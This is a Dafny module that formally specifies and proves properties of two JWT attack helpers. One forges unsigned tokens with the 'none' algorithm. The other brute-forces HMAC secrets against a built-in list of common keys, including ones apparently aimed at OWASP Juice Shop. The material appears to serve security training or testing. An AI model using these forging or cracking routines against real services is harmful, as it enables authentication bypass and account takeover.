/** `jwt_forge_none_algorithm` and `jwt_brute_force_secret`. The forged token
    is an unsecured JSON Web Token (section 6 of RFC 7519, the `none`
    algorithm of section 3.6 of RFC 7518): base64url segments (section 5 of
    RFC 4648) without padding, and an empty signature. */
module Jwt {
  import opened Wrappers
  import opened Text
  import opened Bits
  import opened Search
  import Base64

  /** Text `json.dumps` can produce: it escapes everything beyond ASCII. */
  type Json = s: string | IsAsciiString(s)

  /** `json.dumps({"alg": "none", "typ": "JWT"}, separators=(',', ':'))`. */
  const NoneHeader: Json := "{\"alg\":\"none\",\"typ\":\"JWT\"}"

  /** `s.encode()` on ASCII text, which is all `json.dumps` produces: one
      byte per character. */
  function AsciiBytes(s: string): (b: seq<byte>)
    requires IsAsciiString(s)
    ensures |b| == |s|
    ensures forall i :: 0 <= i < |s| ==> b[i] == s[i] as int
  {
    seq(|s|, i requires 0 <= i < |s| => s[i] as int)
  }

  /** `b.decode()` on bytes below 128. */
  function AsciiText(b: seq<byte>): (s: string)
    requires forall i :: 0 <= i < |b| ==> b[i] < 128
    ensures |s| == |b|
    ensures IsAsciiString(s)
  {
    seq(|b|, i requires 0 <= i < |b| => b[i] as char)
  }

  lemma AsciiRoundTrip(s: string)
    requires IsAsciiString(s)
    ensures AsciiText(AsciiBytes(s)) == s
  {
  }

  /** `base64.urlsafe_b64encode(text.encode()).decode().rstrip('=')`. */
  function Segment(text: Json): (seg: string)
    ensures seg == Base64.EncodeUnpadded(Base64.UrlSafe, AsciiBytes(text))
    ensures '.' !in seg && '=' !in seg
  {
    Base64.StripEncode(Base64.UrlSafe, AsciiBytes(text));
    RStrip(Base64.Encode(Base64.UrlSafe, AsciiBytes(text)), '=')
  }

  /** Splitting `x.y.` where neither part holds a dot. */
  lemma SplitTwoDots(x: string, y: string)
    requires '.' !in x && '.' !in y
    ensures Split(x + "." + y + ".", '.') == [x, y, ""]
  {
    assert x + "." + y + "." == x + ['.'] + (y + ['.'] + "");
    SplitCons(x, '.', y + ['.'] + "");
    SplitCons(y, '.', "");
  }

  /** `jwt_forge_none_algorithm(payload)`, with the payload given as its
      compact JSON text. */
  function ForgeNone(payloadJson: Json): (token: string)
    ensures CountChar(token, '.') == 2
    ensures |token| > 0 && token[|token| - 1] == '.'
    ensures '=' !in token
    ensures Split(token, '.') == [Segment(NoneHeader), Segment(payloadJson), ""]
  {
    var h := Segment(NoneHeader);
    var p := Segment(payloadJson);
    SplitTwoDots(h, p);
    h + "." + p + "."
  }

  /** The forged token reads back: its first segment decodes to the `none`
      header, its second to the payload, and its signature is empty. */
  lemma ForgeNoneRoundTrip(payloadJson: Json)
    ensures var parts := Split(ForgeNone(payloadJson), '.');
            && |parts| == 3
            && Base64.DecodeUnpadded(Base64.UrlSafe, parts[0]) == Some(AsciiBytes(NoneHeader))
            && Base64.DecodeUnpadded(Base64.UrlSafe, parts[1]) == Some(AsciiBytes(payloadJson))
            && parts[2] == ""
  {
    Base64.DecodeEncodeUnpadded(Base64.UrlSafe, AsciiBytes(NoneHeader));
    Base64.DecodeEncodeUnpadded(Base64.UrlSafe, AsciiBytes(payloadJson));
  }

  /** `get_common_secrets()`, in its order. */
  const CommonSecrets: seq<string> := [
    "secret", "key", "password", "admin", "test", "jwt",
    "your-256-bit-secret", "supersecret", "mySecret",
    "juice", "juiceshop", "owasp", "", "null", "undefined",
    "default", "changeme", "secretkey", "privatekey"
  ]

  /** `jwt_brute_force_secret(token, wordlist)`. `verifies(token, secret)`
      stands for `jwt.decode(token, secret, algorithms=["HS256"])` returning
      without an exception; every exception moves on to the next secret. */
  function BruteForceSecret(token: string, wordlist: Option<seq<string>>,
                            verifies: (string, string) -> bool): (r: Option<string>)
    ensures r.Some? ==> r.value in OrDefault(wordlist, CommonSecrets) && verifies(token, r.value)
    ensures r.None? <==> forall s :: s in OrDefault(wordlist, CommonSecrets) ==> !verifies(token, s)
    ensures wordlist.None? || wordlist == Some([]) ==>
              (r.Some? ==> r.value in CommonSecrets)
  {
    FirstMatch(OrDefault(wordlist, CommonSecrets), s => verifies(token, s))
  }

  /** When exactly one listed secret verifies, the search finds it. */
  lemma UniqueSecretFound(token: string, wordlist: Option<seq<string>>,
                          verifies: (string, string) -> bool, secret: string)
    requires secret in OrDefault(wordlist, CommonSecrets) && verifies(token, secret)
    requires forall s :: s in OrDefault(wordlist, CommonSecrets) && s != secret ==> !verifies(token, s)
    ensures BruteForceSecret(token, wordlist, verifies) == Some(secret)
  {
  }

  /** The secrets are tried in order: the answer is the first entry that verifies. */
  lemma {:induction false} EarlierSecretWins(token: string, secrets: seq<string>,
                                             verifies: (string, string) -> bool, k: nat)
    requires |secrets| > 0
    requires k < |secrets| && verifies(token, secrets[k])
    requires forall j :: 0 <= j < k ==> !verifies(token, secrets[j])
    ensures BruteForceSecret(token, Some(secrets), verifies) == Some(secrets[k])
  {
    assert OrDefault(Some(secrets), CommonSecrets) == secrets;
  }
}
